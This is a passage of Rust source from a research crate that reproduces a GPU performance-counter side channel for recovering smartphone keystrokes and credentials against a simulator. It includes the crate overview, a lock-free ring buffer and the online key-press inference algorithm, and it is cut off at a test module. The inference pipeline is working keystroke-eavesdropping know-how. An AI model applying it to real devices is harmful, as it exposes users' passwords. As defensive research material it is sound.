