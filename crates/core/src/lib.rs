//! # gpu-sc-attack — the GPU performance-counter keystroke side channel
//!
//! Reproduction of the primary contribution of *"Eavesdropping User
//! Credentials via GPU Side Channels on Smartphones"* (ASPLOS 2022) on the
//! simulated substrate crates (`adreno-sim`, `kgsl`, `android-ui`,
//! `input-bot`):
//!
//! * [`sampler`] — reading the eleven Table-1 counters through the device
//!   file every few milliseconds (§4);
//! * [`trace`] — turning raw reads into counter *changes*;
//! * [`classify`] — per-configuration nearest-centroid models with the
//!   false-positive-free threshold `C_th` (§5.1, Fig 12);
//! * [`online`] — Algorithm 1: duplication suppression, split
//!   recombination, noise rejection (§5.1);
//! * [`appswitch`] — burst detection of app switches (§5.2, Fig 13);
//! * [`correction`] — backspace/length tracking from echo frames (§5.3,
//!   Fig 14);
//! * [`offline`] — the training pipeline and the preloaded [`offline::ModelStore`]
//!   with device recognition (§3.2, §6);
//! * [`registry`] — the content-addressed model registry: quantized
//!   serialization, train-once-per-key, byte-budgeted deterministic
//!   eviction, online adaptation with lineage;
//! * [`stage`] — the push-based streaming [`Stage`] abstraction all of the
//!   above compose through;
//! * [`ring`] — the lock-free SPSC ring that carries sampled slots from the
//!   reader loop to the stage pipeline in bursts;
//! * [`service`] — the end-to-end background service;
//! * [`fleet`] — fleet-scale orchestration: thousands of concurrent
//!   sessions as cooperative tasks over a bounded worker set, with
//!   SPSC-ring backpressure per session;
//! * [`metrics`] — the accuracy metrics of §7.
//!
//! This library exists for research and defensive evaluation: it runs only
//! against the bundled simulator and implements the paper's §9 mitigations
//! alongside the attack so they can be tested.
//!
//! ## End to end
//!
//! ```no_run
//! use adreno_sim::time::SimInstant;
//! use android_ui::{SimConfig, UiSimulation};
//! use gpu_sc_attack::offline::ModelStore;
//! use gpu_sc_attack::registry::Registry;
//! use gpu_sc_attack::service::{AttackService, ServiceConfig};
//!
//! // Offline phase: train a model for the victim configuration, once,
//! // through the content-addressed registry.
//! let registry = Registry::default();
//! let cfg = SimConfig::paper_default(7);
//! let handle = registry.get_or_train(cfg.device, cfg.keyboard, cfg.app);
//! let mut store = ModelStore::new();
//! store.add_handle(handle);
//!
//! // Online phase: eavesdrop a victim session.
//! let service = AttackService::new(store, ServiceConfig::default());
//! let mut victim = UiSimulation::new(cfg);
//! // … queue the victim's typing via input-bot …
//! let result = service.eavesdrop(&mut victim, SimInstant::from_millis(10_000)).unwrap();
//! println!("recovered: {}", result.recovered_text);
//! ```

#![warn(missing_docs)]

pub mod appswitch;
pub mod classify;
pub mod correction;
pub mod fleet;
pub mod launch;
pub mod metrics;
pub mod offline;
pub mod online;
pub mod registry;
pub mod ring;
pub mod sampler;
pub mod service;
pub mod stage;
pub mod trace;

pub use classify::{BatchScratch, Classification, ClassifierModel, KeyCentroid, ModelMeta};
pub use fleet::{Fleet, FleetConfig, FleetSession, Session, SessionOutcome, SessionStats};
pub use launch::LaunchDetector;
pub use metrics::{Aggregate, SessionScore};
pub use offline::{ModelStore, Trainer, TrainerConfig};
pub use online::{InferenceStats, InferredKey, OnlineConfig};
pub use registry::{
    ModelDigest, ModelHandle, ModelKey, Quantization, Registry, RegistryConfig, RegistryStats,
};
pub use sampler::{RetryPolicy, Sampler, SamplerConfig, SamplerReport};
pub use service::{
    AttackService, DegradationReport, LinkDegradationReport, ServiceConfig, ServiceError,
    SessionResult, StreamingSession,
};
pub use stage::Stage;
pub use trace::{
    extract_deltas, extract_deltas_with_resets, extract_deltas_with_resets_scratch, Delta,
    ExtractScratch, Sample, Trace,
};
