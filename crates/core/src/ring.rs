//! A lock-free single-producer/single-consumer ring buffer.
//!
//! Sits between [`crate::sampler::Sampler::next_sample`] and the stage
//! pipeline so streaming sessions hand samples over in bursts instead of
//! paying the full stage-dispatch chain per read slot: the sampling side
//! fills the ring, the analysis side drains it and pushes the whole burst
//! through the pipeline at once (which is also what lets the classifier
//! batch an entire burst's deltas into one prepared-row traversal).
//!
//! The implementation is the classic Lamport queue: a fixed power-of-two
//! slot array indexed by free-running `head`/`tail` counters. The producer
//! alone advances `tail`, the consumer alone advances `head`; each side
//! publishes its counter with a `Release` store and reads the other's with
//! an `Acquire` load, so slot contents are always transferred
//! happens-before their index. The two counters live on separate cache
//! lines (`CachePadded`) to keep the producer's and consumer's write
//! traffic from false-sharing, and each side caches the other's counter
//! locally so the uncontended fast path touches no shared line at all.
//!
//! This is the one module in the crate with `unsafe` code; it is confined
//! to the slot reads/writes whose exclusivity the head/tail protocol
//! guarantees, and a two-thread stress test plus a unit suite (wraparound,
//! full/empty, drop-with-unread) pin the behaviour.

use std::cell::UnsafeCell;
use std::mem::MaybeUninit;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::Arc;

/// Pads (and aligns) a value to a 64-byte cache line so the producer- and
/// consumer-owned counters never share one.
#[repr(align(64))]
struct CachePadded<T>(T);

/// Shared state behind both handles.
struct Inner<T> {
    /// `mask + 1` slots, each owned by exactly one side at a time: the
    /// producer owns indices in `[head, tail + capacity)` (empty slots),
    /// the consumer owns `[head, tail)` (filled slots).
    buf: Box<[UnsafeCell<MaybeUninit<T>>]>,
    /// Capacity minus one; capacity is a power of two, so `index & mask`
    /// wraps free-running counters onto the slot array.
    mask: usize,
    /// Next slot the consumer will pop. Written only by the consumer.
    head: CachePadded<AtomicUsize>,
    /// Next slot the producer will fill. Written only by the producer.
    tail: CachePadded<AtomicUsize>,
}

// SAFETY: the head/tail protocol hands each slot to exactly one side at a
// time (the producer writes a slot strictly before its Release tail
// publish; the consumer reads it strictly after the Acquire tail load, and
// vice versa for head), so `&Inner` shared across the two threads never
// yields aliased mutable access to a slot. Sending the handles requires
// sending `T` itself.
unsafe impl<T: Send> Send for Inner<T> {}
unsafe impl<T: Send> Sync for Inner<T> {}

impl<T> Drop for Inner<T> {
    fn drop(&mut self) {
        // Reached only once both handles are gone: drop every item pushed
        // but never popped.
        let mut head = *self.head.0.get_mut();
        let tail = *self.tail.0.get_mut();
        while head != tail {
            // SAFETY: `&mut self` means exclusive access; slots in
            // `[head, tail)` hold initialised values by the protocol.
            unsafe { self.buf[head & self.mask].get_mut().assume_init_drop() };
            head = head.wrapping_add(1);
        }
    }
}

/// The sending half of an SPSC ring; see [`spsc`].
pub struct Producer<T> {
    inner: Arc<Inner<T>>,
    /// Local copy of our own `tail` (only we advance it).
    tail: usize,
    /// Last observed consumer `head`; refreshed from the shared counter
    /// only when the ring looks full.
    head_cache: usize,
}

/// The receiving half of an SPSC ring; see [`spsc`].
pub struct Consumer<T> {
    inner: Arc<Inner<T>>,
    /// Local copy of our own `head` (only we advance it).
    head: usize,
    /// Last observed producer `tail`; refreshed from the shared counter
    /// only when the ring looks empty.
    tail_cache: usize,
}

/// Creates a ring with room for `capacity` items (rounded up to the next
/// power of two), returning the producer and consumer handles. Each handle
/// can move to its own thread; neither is cloneable.
///
/// # Panics
///
/// Panics if `capacity` is zero.
pub fn spsc<T>(capacity: usize) -> (Producer<T>, Consumer<T>) {
    assert!(capacity > 0, "an SPSC ring needs at least one slot");
    let capacity = capacity.next_power_of_two();
    let buf: Box<[UnsafeCell<MaybeUninit<T>>]> =
        (0..capacity).map(|_| UnsafeCell::new(MaybeUninit::uninit())).collect();
    let inner = Arc::new(Inner {
        buf,
        mask: capacity - 1,
        head: CachePadded(AtomicUsize::new(0)),
        tail: CachePadded(AtomicUsize::new(0)),
    });
    (
        Producer { inner: Arc::clone(&inner), tail: 0, head_cache: 0 },
        Consumer { inner, head: 0, tail_cache: 0 },
    )
}

impl<T> Producer<T> {
    /// Number of slots (the requested capacity rounded up to a power of
    /// two).
    pub fn capacity(&self) -> usize {
        self.inner.mask + 1
    }

    /// Whether the ring is full right now. Refreshes the consumer position
    /// first, so a `false` return guarantees the next [`Producer::push`]
    /// succeeds.
    pub fn is_full(&mut self) -> bool {
        let capacity = self.capacity();
        if self.tail.wrapping_sub(self.head_cache) < capacity {
            return false;
        }
        self.head_cache = self.inner.head.0.load(Ordering::Acquire);
        self.tail.wrapping_sub(self.head_cache) == capacity
    }

    /// Appends `value`, or hands it back if the ring is full.
    ///
    /// # Errors
    ///
    /// Returns `Err(value)` when every slot is occupied (the consumer has
    /// not caught up).
    pub fn push(&mut self, value: T) -> Result<(), T> {
        if self.is_full() {
            return Err(value);
        }
        // SAFETY: not full, so slot `tail` is empty and owned by us until
        // the Release store below publishes it.
        unsafe { (*self.inner.buf[self.tail & self.inner.mask].get()).write(value) };
        self.tail = self.tail.wrapping_add(1);
        self.inner.tail.0.store(self.tail, Ordering::Release);
        Ok(())
    }
}

impl<T> Consumer<T> {
    /// Whether the ring is empty right now. Refreshes the producer
    /// position first, so a `false` return guarantees the next
    /// [`Consumer::pop`] yields an item.
    pub fn is_empty(&mut self) -> bool {
        if self.head != self.tail_cache {
            return false;
        }
        self.tail_cache = self.inner.tail.0.load(Ordering::Acquire);
        self.head == self.tail_cache
    }

    /// Removes and returns the oldest item, or `None` when the ring is
    /// empty.
    pub fn pop(&mut self) -> Option<T> {
        if self.is_empty() {
            return None;
        }
        // SAFETY: not empty, so slot `head` holds an initialised value the
        // producer published with its Release tail store; we take it before
        // releasing the slot back via the head store.
        let value =
            unsafe { (*self.inner.buf[self.head & self.inner.mask].get()).assume_init_read() };
        self.head = self.head.wrapping_add(1);
        self.inner.head.0.store(self.head, Ordering::Release);
        Some(value)
    }

    /// Drains everything currently in the ring into `out`, returning how
    /// many items moved. One Acquire refresh covers the whole burst.
    pub fn drain_into(&mut self, out: &mut Vec<T>) -> usize {
        let mut moved = 0;
        while let Some(v) = self.pop() {
            out.push(v);
            moved += 1;
        }
        moved
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::rc::Rc;

    #[test]
    fn fifo_order_and_emptiness() {
        let (mut tx, mut rx) = spsc::<u32>(4);
        assert!(rx.is_empty());
        assert!(rx.pop().is_none());
        for v in 0..3 {
            tx.push(v).unwrap();
        }
        assert_eq!(rx.pop(), Some(0));
        assert_eq!(rx.pop(), Some(1));
        assert_eq!(rx.pop(), Some(2));
        assert!(rx.pop().is_none());
    }

    #[test]
    fn capacity_rounds_to_power_of_two_and_full_rejects() {
        let (mut tx, mut rx) = spsc::<u64>(5);
        assert_eq!(tx.capacity(), 8);
        for v in 0..8 {
            tx.push(v).unwrap();
        }
        assert!(tx.is_full());
        assert_eq!(tx.push(99), Err(99), "a full ring hands the value back");
        assert_eq!(rx.pop(), Some(0));
        assert!(!tx.is_full(), "pop frees a slot");
        tx.push(99).unwrap();
    }

    #[test]
    fn wraparound_preserves_order_across_many_generations() {
        let (mut tx, mut rx) = spsc::<usize>(4);
        let mut next_in = 0usize;
        let mut next_out = 0usize;
        // 10 generations of interleaved fill/drain exercise index wrapping
        // far past the slot count.
        for round in 0..10 {
            let burst = 1 + (round % 4);
            for _ in 0..burst {
                tx.push(next_in).unwrap();
                next_in += 1;
            }
            let mut out = Vec::new();
            rx.drain_into(&mut out);
            for v in out {
                assert_eq!(v, next_out);
                next_out += 1;
            }
        }
        assert_eq!(next_in, next_out);
        assert!(rx.is_empty());
    }

    #[test]
    fn drain_into_moves_everything_at_once() {
        let (mut tx, mut rx) = spsc::<u8>(8);
        for v in 10..14 {
            tx.push(v).unwrap();
        }
        let mut out = vec![9];
        assert_eq!(rx.drain_into(&mut out), 4);
        assert_eq!(out, vec![9, 10, 11, 12, 13]);
        assert_eq!(rx.drain_into(&mut out), 0);
    }

    #[test]
    fn dropping_the_ring_drops_unread_items() {
        let marker = Rc::new(());
        {
            let (mut tx, rx) = spsc::<Rc<()>>(4);
            for _ in 0..3 {
                tx.push(Rc::clone(&marker)).unwrap();
            }
            assert_eq!(Rc::strong_count(&marker), 4);
            drop(tx);
            drop(rx);
        }
        assert_eq!(Rc::strong_count(&marker), 1, "unread items must be dropped with the ring");
    }

    #[test]
    fn two_thread_stress_delivers_everything_in_order() {
        // A deliberately tiny ring under sustained pressure from a real
        // second thread: every value must come out exactly once, in order,
        // across ~25k wraparounds. Run under the same suite's normal
        // execution this also gives the Acquire/Release protocol a workout
        // on whatever hardware CI runs.
        const N: usize = 20_000;
        let (mut tx, mut rx) = spsc::<usize>(4);
        let producer = std::thread::spawn(move || {
            for v in 0..N {
                let mut item = v;
                loop {
                    match tx.push(item) {
                        Ok(()) => break,
                        Err(back) => {
                            item = back;
                            // Yield rather than spin: the suite must stay
                            // fast even when CI gives it a single core.
                            std::thread::yield_now();
                        }
                    }
                }
            }
        });
        let mut next = 0usize;
        while next < N {
            match rx.pop() {
                Some(v) => {
                    assert_eq!(v, next);
                    next += 1;
                }
                None => std::thread::yield_now(),
            }
        }
        producer.join().expect("producer thread must not panic");
        assert!(rx.pop().is_none(), "nothing may remain after all items arrived");
    }

    #[test]
    fn popped_items_are_not_double_dropped() {
        let marker = Rc::new(());
        let (mut tx, mut rx) = spsc::<Rc<()>>(2);
        tx.push(Rc::clone(&marker)).unwrap();
        tx.push(Rc::clone(&marker)).unwrap();
        drop(rx.pop());
        drop(tx);
        drop(rx);
        assert_eq!(Rc::strong_count(&marker), 1);
    }
}
