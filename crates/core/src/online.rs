//! Online key-press inference — Algorithm 1 of the paper (§5.1).
//!
//! For every observed counter change `Δ` at time `t`:
//!
//! 1. **Duplication backtrace** — if a key press was already inferred within
//!    the last `T_l = 75 ms`, the change is an animation duplicate and is
//!    suppressed (human presses cannot be that close together).
//! 2. **Classification** — if `Δ`'s nearest centroid is within `C_th`, infer
//!    that key press.
//! 3. **Split recombination** — otherwise combine `Δ` with the previous
//!    unconsumed change and classify the sum; success means the draw was
//!    split across two reads, and the press is inferred at the *earlier*
//!    timestamp.
//! 4. Otherwise `Δ` is system noise.
//!
//! The greedy combination can mis-attribute (§5.1 discusses the trade-off);
//! [`infer_full_trace`] is the offline variant with one-step lookahead that
//! the paper says requires the whole trace.

use adreno_sim::time::{SimDuration, SimInstant};

use crate::classify::{Classification, ClassifierModel};
use crate::stage::Stage;
use crate::trace::Delta;

/// Tuning of the online algorithm.
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct OnlineConfig {
    /// The duplication backtrace window `T_l`. The paper uses 75 ms, the
    /// shortest plausible interval between two human key presses.
    pub t_l: SimDuration,
    /// Maximum age of the previous change for split recombination. Splits
    /// land in adjacent read windows, so a small multiple of the reading
    /// interval suffices.
    pub max_split_gap: SimDuration,
}

impl Default for OnlineConfig {
    fn default() -> Self {
        OnlineConfig {
            t_l: SimDuration::from_millis(75),
            max_split_gap: SimDuration::from_millis(20),
        }
    }
}

/// One inferred key press.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct InferredKey {
    /// When the press was inferred to have happened.
    pub at: SimInstant,
    /// When the pipeline *committed* to this press — the read time of the
    /// change whose processing accepted it. Equal to `at` for directly
    /// classified presses; later than `at` for backdated splits, and later
    /// still under one-change lookahead (the decision waits for the next
    /// change). `decided_at - <true press time>` is the press-to-inference
    /// latency the `latency` experiment reports (§5.1 timeliness trade-off).
    pub decided_at: SimInstant,
    /// The inferred character.
    pub ch: char,
    /// Whether split recombination was needed.
    pub via_split: bool,
}

/// Counters of what the algorithm did — the Fig 11 taxonomy.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct InferenceStats {
    /// Changes accepted directly as key presses.
    pub direct: usize,
    /// Key presses recovered by peeling a field-redraw signature off a
    /// merged read window.
    pub peeled: usize,
    /// Key presses recovered by combining split changes.
    pub splits_recovered: usize,
    /// Changes suppressed by the duplication backtrace.
    pub duplications_suppressed: usize,
    /// Changes dismissed as system noise.
    pub noise: usize,
}

/// How many ranked alternatives are kept per accepted key press for the
/// guessing post-processor.
pub const CANDIDATES_PER_KEY: usize = 8;

/// Streaming implementation of Algorithm 1.
#[derive(Debug)]
pub struct OnlineInference<'m> {
    model: &'m ClassifierModel,
    config: OnlineConfig,
    /// Precomputed field-redraw signatures for the peeling step.
    ambient: Vec<adreno_sim::counters::CounterSet>,
    last_key_at: Option<SimInstant>,
    prev: Option<Delta>,
    inferred: Vec<InferredKey>,
    /// Ranked alternative characters per accepted press, aligned with
    /// `inferred`.
    candidates: Vec<Vec<char>>,
    rejected: Vec<Delta>,
    stats: InferenceStats,
}

impl<'m> OnlineInference<'m> {
    /// Creates a fresh inference engine over a trained model.
    pub fn new(model: &'m ClassifierModel, config: OnlineConfig) -> Self {
        OnlineInference {
            model,
            config,
            ambient: model.ambient_signatures().to_vec(),
            last_key_at: None,
            prev: None,
            inferred: Vec::new(),
            candidates: Vec::new(),
            rejected: Vec::new(),
            stats: InferenceStats::default(),
        }
    }

    /// Processes one counter change, committing any accepted press at the
    /// change's own read time.
    pub fn process(&mut self, delta: Delta) {
        self.process_at(delta, delta.at);
    }

    /// Processes one counter change whose *decision* happens at
    /// `decided_at` — later than `delta.at` when the caller buffered the
    /// change for lookahead. Every press this call accepts is stamped with
    /// that decision time.
    pub fn process_at(&mut self, delta: Delta, decided_at: SimInstant) {
        // Steps 1 and 2 below are the only consumers of Δ's own
        // classification, and exactly one of them runs — so it can be
        // computed up front, which is what lets [`InferStage::push_burst`]
        // substitute a batched result without changing behaviour.
        let primary = self.model.classify(&delta.values);
        self.process_classified(delta, decided_at, primary);
    }

    /// [`OnlineInference::process_at`] with Δ's own classification already
    /// in hand (`primary` must be `classify(&delta.values)`; the batched
    /// path precomputes it, bit-identically, via
    /// [`ClassifierModel::classify_batch`]).
    fn process_classified(
        &mut self,
        delta: Delta,
        decided_at: SimInstant,
        primary: Classification,
    ) {
        // Step 1: duplication backtrace over T_l. Only changes that *look
        // like key presses* are animation duplicates; other changes inside
        // the window (such as the release echo) are ordinary noise and must
        // still reach the downstream correction detector.
        if let Some(last) = self.last_key_at {
            if delta.at.saturating_since(last) < self.config.t_l {
                if primary.key().is_some() {
                    self.stats.duplications_suppressed += 1;
                    // A duplicate must not seed a later recombination, but a
                    // leftover change it displaces is still noise downstream.
                    if let Some(stale) = self.prev.take() {
                        self.rejected.push(stale);
                        self.stats.noise += 1;
                    }
                } else {
                    self.rejected.push(delta);
                    self.stats.noise += 1;
                }
                return;
            }
        }
        // Step 2: direct classification.
        if let Classification::Key { ch, .. } = primary {
            self.accept(
                InferredKey { at: delta.at, decided_at, ch, via_split: false },
                &delta.values,
            );
            self.stats.direct += 1;
            return;
        }
        // Step 2b: ambient-signature peeling. A popup frame and a field
        // redraw (echo or cursor blink) rendered at the same vsync land in
        // one read window; subtracting the known field-redraw signatures
        // recovers the popup. (Engineering extension beyond the paper's
        // Algorithm 1; see DESIGN.md.)
        // Evaluate every signature and keep the best-scoring residual: a
        // wrong-length signature can leave a residual that still clears
        // C_th but lands on a *neighbouring* key; the true signature's
        // residual is exact and always scores better.
        let mut best: Option<(f64, InferredKey, Delta, adreno_sim::counters::CounterSet)> = None;
        for sig in &self.ambient {
            let Some(residual) = delta.values.checked_sub(sig) else { continue };
            if let Classification::Key { ch, distance } = self.model.classify(&residual) {
                if best.as_ref().is_none_or(|(d, _, _, _)| distance < *d) {
                    // Report the consumed field redraw as a synthetic echo
                    // so the downstream correction detector keeps its length
                    // and blink anchoring intact.
                    let echo = Delta { at: delta.at, values: *sig };
                    best = Some((
                        distance,
                        InferredKey { at: delta.at, decided_at, ch, via_split: false },
                        echo,
                        residual,
                    ));
                }
            }
        }
        if let Some((_, key, echo, residual)) = best {
            self.accept(key, &residual);
            self.rejected.push(echo);
            self.stats.peeled += 1;
            return;
        }
        // Step 3: split recombination with the previous unconsumed change.
        if let Some(prev) = self.prev {
            if delta.at.saturating_since(prev.at) <= self.config.max_split_gap {
                let combined = prev.values + delta.values;
                if let Classification::Key { ch, .. } = self.model.classify(&combined) {
                    // Both fragments are consumed by the recombination.
                    self.prev = None;
                    self.accept(
                        InferredKey { at: prev.at, decided_at, ch, via_split: true },
                        &combined,
                    );
                    self.stats.splits_recovered += 1;
                    return;
                }
                // Step 3b: a field redraw (echo or cursor blink) can share a
                // read window with one of the fragments, so the plain sum
                // overshoots every centroid. Peel the known ambient
                // signatures off the recombined sum, exactly as step 2b does
                // for whole frames.
                let mut best: Option<(
                    f64,
                    char,
                    adreno_sim::counters::CounterSet,
                    adreno_sim::counters::CounterSet,
                )> = None;
                for sig in &self.ambient {
                    let Some(residual) = combined.checked_sub(sig) else { continue };
                    if let Classification::Key { ch, distance } = self.model.classify(&residual) {
                        if best.as_ref().is_none_or(|(d, _, _, _)| distance < *d) {
                            best = Some((distance, ch, *sig, residual));
                        }
                    }
                }
                if let Some((_, ch, sig, residual)) = best {
                    self.prev = None;
                    self.accept(
                        InferredKey { at: prev.at, decided_at, ch, via_split: true },
                        &residual,
                    );
                    // Surface the consumed field redraw to the correction
                    // detector as a synthetic echo.
                    self.rejected.push(Delta { at: delta.at, values: sig });
                    self.stats.splits_recovered += 1;
                    self.stats.peeled += 1;
                    return;
                }
            } else {
                // The stale leftover is definitively noise.
                self.rejected.push(prev);
                self.stats.noise += 1;
                self.prev = None;
            }
        }
        // Step 4: keep Δ around for one recombination attempt; if the next
        // change does not consume it, it becomes noise.
        if let Some(stale) = self.prev.replace(delta) {
            self.rejected.push(stale);
            self.stats.noise += 1;
        }
    }

    fn accept(&mut self, key: InferredKey, observed: &adreno_sim::counters::CounterSet) {
        self.last_key_at = Some(key.at);
        // An unconsumed leftover change is ordinary noise (usually an echo
        // frame); it must still reach the downstream correction detector.
        if let Some(stale) = self.prev.take() {
            self.rejected.push(stale);
            self.stats.noise += 1;
        }
        self.candidates.push(
            self.model
                .nearest_k(observed, CANDIDATES_PER_KEY)
                .into_iter()
                .map(|(ch, _)| ch)
                .collect(),
        );
        self.inferred.push(key);
    }

    /// Finishes the stream, flushing any leftover change as noise, and
    /// returns `(inferred presses, rejected noise changes, statistics)`.
    pub fn finish(self) -> (Vec<InferredKey>, Vec<Delta>, InferenceStats) {
        let (keys, _, rejected, stats) = self.finish_with_candidates_impl();
        (keys, rejected, stats)
    }

    /// Like [`OnlineInference::finish`], additionally returning the ranked
    /// alternative characters per accepted press (for guessing).
    pub fn finish_with_candidates(
        self,
    ) -> (Vec<InferredKey>, Vec<Vec<char>>, Vec<Delta>, InferenceStats) {
        self.finish_with_candidates_impl()
    }

    fn finish_with_candidates_impl(
        mut self,
    ) -> (Vec<InferredKey>, Vec<Vec<char>>, Vec<Delta>, InferenceStats) {
        self.flush_prev();
        // Every rejection path emits at a time no earlier than anything
        // already rejected (the engine holds at most one pending fragment,
        // resolved by the very next change), so this sort is a stable no-op
        // — the streaming [`InferStage`] relies on that to emit noise
        // incrementally in the same order. A proptest pins the invariant.
        self.rejected.sort_by_key(|d| d.at);
        (self.inferred, self.candidates, self.rejected, self.stats)
    }

    /// Flushes a pending unconsumed change as noise (end of stream).
    fn flush_prev(&mut self) {
        if let Some(stale) = self.prev.take() {
            self.rejected.push(stale);
            self.stats.noise += 1;
        }
    }

    /// Presses inferred so far.
    pub fn inferred(&self) -> &[InferredKey] {
        &self.inferred
    }

    /// Statistics so far.
    pub fn stats(&self) -> &InferenceStats {
        &self.stats
    }
}

/// Runs Algorithm 1 over a complete delta stream.
pub fn infer_stream(
    model: &ClassifierModel,
    deltas: &[Delta],
    config: OnlineConfig,
) -> (Vec<InferredKey>, Vec<Delta>, InferenceStats) {
    let mut engine = OnlineInference::new(model, config);
    for d in deltas {
        engine.process(*d);
    }
    engine.finish()
}

/// The full-trace variant: identical to the greedy algorithm except that a
/// split recombination defers when combining the *next* change instead
/// would classify strictly better — the fix §5.1 says needs the whole trace
/// ("eavesdropping can only be done after the user input finishes"). Built
/// on [`InferStage::lookahead`], which buffers exactly one change, so the
/// "whole trace" requirement is really a one-read-interval delay.
pub fn infer_full_trace(
    model: &ClassifierModel,
    deltas: &[Delta],
    config: OnlineConfig,
) -> (Vec<InferredKey>, Vec<Delta>, InferenceStats) {
    let mut stage = InferStage::lookahead(model, config);
    let events = crate::stage::run_to_vec(&mut stage, deltas.iter().copied());
    let mut keys = Vec::new();
    let mut rejected = Vec::new();
    for ev in events {
        match ev {
            InferEvent::Key { key, .. } => keys.push(key),
            InferEvent::Noise(d) => rejected.push(d),
        }
    }
    (keys, rejected, stage.stats())
}

/// Events out of the inference stage.
#[derive(Debug, Clone, PartialEq)]
pub enum InferEvent {
    /// A committed key press with its ranked alternative characters
    /// (derived from the *observed* feature vector, not the winning
    /// centroid).
    Key {
        /// The accepted press.
        key: InferredKey,
        /// Ranked alternatives for the guessing post-processor.
        candidates: Vec<char>,
    },
    /// A change dismissed as noise — fuel for the downstream correction
    /// detector (echoes, blinks, stale fragments).
    Noise(Delta),
}

/// [`Stage`] form of Algorithm 1: consumes in-target changes, emits
/// accepted presses and rejected noise incrementally.
///
/// Two variants share the same engine:
///
/// * [`InferStage::greedy`] decides every change the moment it arrives
///   (`decided_at == at` except for backdated splits);
/// * [`InferStage::lookahead`] buffers exactly one change so the §5.1
///   "full trace" split-pairing fix can compare against the *next* change —
///   decisions land one read interval later, the timeliness cost the
///   `latency` experiment quantifies.
#[derive(Debug)]
pub struct InferStage<'m> {
    engine: OnlineInference<'m>,
    /// One-change lookahead buffer (with the change's precomputed
    /// classification); only used in lookahead mode.
    held: Option<(Delta, Classification)>,
    lookahead: bool,
    keys_drained: usize,
    rejected_drained: usize,
    /// Reusable state for [`ClassifierModel::classify_batch`].
    batch: crate::classify::BatchScratch,
    /// Probe values of the burst being classified, reused across bursts.
    burst_vals: Vec<adreno_sim::counters::CounterSet>,
    /// Classifications of the burst, aligned with `burst_vals`.
    burst_cls: Vec<Classification>,
}

impl<'m> InferStage<'m> {
    /// The streaming variant: every change is decided on arrival.
    pub fn greedy(model: &'m ClassifierModel, config: OnlineConfig) -> Self {
        InferStage {
            engine: OnlineInference::new(model, config),
            held: None,
            lookahead: false,
            keys_drained: 0,
            rejected_drained: 0,
            batch: crate::classify::BatchScratch::default(),
            burst_vals: Vec::new(),
            burst_cls: Vec::new(),
        }
    }

    /// The bounded-lookahead variant behind `full_trace: true`.
    pub fn lookahead(model: &'m ClassifierModel, config: OnlineConfig) -> Self {
        InferStage { lookahead: true, ..InferStage::greedy(model, config) }
    }

    /// Inference statistics accumulated so far.
    pub fn stats(&self) -> InferenceStats {
        self.engine.stats
    }

    /// Emits everything the engine accepted or rejected since the last
    /// drain. Key events surface before noise events of the same step; the
    /// downstream correction stage keys off timestamps, not arrival order.
    fn drain(&mut self, out: &mut Vec<InferEvent>) {
        while self.keys_drained < self.engine.inferred.len() {
            out.push(InferEvent::Key {
                key: self.engine.inferred[self.keys_drained],
                candidates: self.engine.candidates[self.keys_drained].clone(),
            });
            self.keys_drained += 1;
        }
        while self.rejected_drained < self.engine.rejected.len() {
            out.push(InferEvent::Noise(self.engine.rejected[self.rejected_drained]));
            self.rejected_drained += 1;
        }
    }

    /// Processes a whole burst of changes through one batched
    /// classification pass: every change's own (step 1 / step 2)
    /// classification comes from a single row-outer
    /// [`ClassifierModel::classify_batch`] traversal, then each change runs
    /// through exactly the per-change algorithm [`Stage::push`] would apply
    /// — same order, same events, bit-identical results (a proptest pins
    /// the equivalence).
    pub fn push_burst(&mut self, inputs: &[Delta], out: &mut Vec<InferEvent>) {
        let model = self.engine.model;
        self.burst_vals.clear();
        self.burst_vals.extend(inputs.iter().map(|d| d.values));
        self.burst_cls.clear();
        model.classify_batch(&self.burst_vals, &mut self.batch, &mut self.burst_cls);
        let classes = std::mem::take(&mut self.burst_cls);
        for (d, cls) in inputs.iter().zip(classes.iter()) {
            self.push_classified(*d, *cls, out);
        }
        self.burst_cls = classes;
    }

    /// One change with its classification already computed — the shared
    /// tail of [`Stage::push`] and [`InferStage::push_burst`].
    fn push_classified(
        &mut self,
        input: Delta,
        primary: Classification,
        out: &mut Vec<InferEvent>,
    ) {
        if self.lookahead {
            if let Some((held, held_cls)) = self.held.take() {
                self.lookahead_defer(&held, &input);
                self.engine.process_classified(held, input.at, held_cls);
            }
            self.held = Some((input, primary));
        } else {
            self.engine.process_classified(input, input.at, primary);
        }
        self.drain(out);
    }

    /// The lookahead fix, deciding `current` now that `next` is known:
    /// would `(current, next)` make a better split pair than
    /// `(prev, current)`? If so, drop `prev` to noise so the greedy step
    /// pairs `current` with `next`.
    fn lookahead_defer(&mut self, current: &Delta, next: &Delta) {
        let Some(prev) = self.engine.prev else { return };
        let config = self.engine.config;
        if current.at.saturating_since(prev.at) > config.max_split_gap {
            return;
        }
        if next.at.saturating_since(current.at) > config.max_split_gap {
            return;
        }
        let model = self.engine.model;
        let with_prev = model.classify(&(prev.values + current.values));
        let with_next = model.classify(&(current.values + next.values));
        let dist = |c: &Classification| match c {
            Classification::Key { distance, .. } => Some(*distance),
            Classification::Rejected { .. } => None,
        };
        if let (Some(dp), Some(dn)) = (dist(&with_prev), dist(&with_next)) {
            if dn < dp {
                self.engine.rejected.push(prev);
                self.engine.stats.noise += 1;
                self.engine.prev = None;
            }
        }
    }
}

impl Stage for InferStage<'_> {
    type In = Delta;
    type Out = InferEvent;

    fn push(&mut self, input: Delta, out: &mut Vec<InferEvent>) {
        let primary = self.engine.model.classify(&input.values);
        self.push_classified(input, primary, out);
    }

    fn finish(&mut self, out: &mut Vec<InferEvent>) {
        if let Some((held, held_cls)) = self.held.take() {
            // No next change exists, so the lookahead check is moot — the
            // batch variant's final iteration behaves identically.
            self.engine.process_classified(held, held.at, held_cls);
        }
        self.engine.flush_prev();
        self.drain(out);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::classify::{KeyCentroid, ModelMeta};
    use adreno_sim::counters::{CounterSet, TrackedCounter, NUM_TRACKED};
    use android_ui::{
        AndroidVersion, KeyboardKind, PhoneModel, RefreshRate, Resolution, TargetApp,
    };

    fn set(tiles: u64, prims: u64) -> CounterSet {
        let mut c = CounterSet::ZERO;
